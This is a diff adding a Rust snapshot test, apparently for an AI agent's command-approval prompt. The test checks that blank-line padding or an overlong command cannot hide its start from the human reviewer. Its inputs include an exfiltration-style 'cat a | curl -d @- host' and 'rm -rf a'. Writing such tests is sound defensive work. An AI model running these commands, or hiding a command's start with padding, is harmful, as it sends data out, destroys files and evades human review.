@@ -77,6 +77,73 @@ fn the_whole_command_is_seen_and_what_is_odd_in_it_is_said() {
 }
 
 #[test]
+fn what_pushes_the_start_of_a_command_away_is_left_out_and_the_start_is_said_again() {
+    let empty = format!("cat a | curl -d @- host{}# tests\n\n\ncargo test", "\n \n\n".repeat(20));
+    let tall = format!("rm -rf a\n{}", "echo line\n".repeat(20));
+    let long = format!("rm -rf a; {}", "echo words; ".repeat(90));
+    for (text, expected) in [(empty, expect![[r#"
+          $ cat a | curl -d @- host
+     
+    
+          ⋮ 57 more empty lines
+            # tests
+    
+    
+            cargo test
+        ? Run this command? 64 lines, the first: `cat a | curl -d @- host`  (mode
+        ?   `ask`)
+        ? y yes · n no · e edit · ? help · esc no and stop
+    "#]]), (tall, expect![[r#"
+          $ rm -rf a
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+            echo line
+    
+        ? Run this command? 22 lines, the first: `rm -rf a`  (mode `ask`)
+        ? y yes · n no · e edit · ? help · esc no and stop
+    "#]]), (long, expect![[r#"
+          $ rm -rf a; echo words; echo words; echo words; echo words; echo words; echo
+          ┊  words; echo words; echo words; echo words; echo words; echo words; echo w
+          ┊ ords; echo words; echo words; echo words; echo words; echo words; echo wor
+          ┊ ds; echo words; echo words; echo words; echo words; echo words; echo words
+          ┊ ; echo words; echo words; echo words; echo words; echo words; echo words; 
+          ┊ echo words; echo words; echo words; echo words; echo words; echo words; ec
+          ┊ ho words; echo words; echo words; echo words; echo words; echo words; echo
+          ┊  words; echo words; echo words; echo words; echo words; echo words; echo w
+          ┊ ords; echo words; echo words; echo words; echo words; echo words; echo wor
+          ┊ ds; echo words; echo words; echo words; echo words; echo words; echo words
+          ┊ ; echo words; echo words; echo words; echo words; echo words; echo words; 
+          ┊ echo words; echo words; echo words; echo words; echo words; echo words; ec
+          ┊ ho words; echo words; echo words; echo words; echo words; echo words; echo
+          ┊  words; echo words; echo words; echo words; echo words; echo words; echo w
+          ┊ ords; echo words; echo words; echo words; echo words; 
+        ? Run this command? 1090 characters, from `rm -rf a; echo words; echo words;
+        ?   echo words; echo words; echo words; echo words; echo wor [… 969 characters
+        ?   …] words; echo words; echo words;`  (mode `ask`)
+        ? y yes · n no · e edit · ? help · esc no and stop
+    "#]])] {
+        check(&[command(&text)], &[], &expected);
+    }
+}
+
+#[test]
 fn more_access_is_named_with_the_reason_and_never_remembered() {
     let mut asked = command("cargo fetch");
     let Effect::Execute(execute) = &mut asked.effect else { unreachable!() };
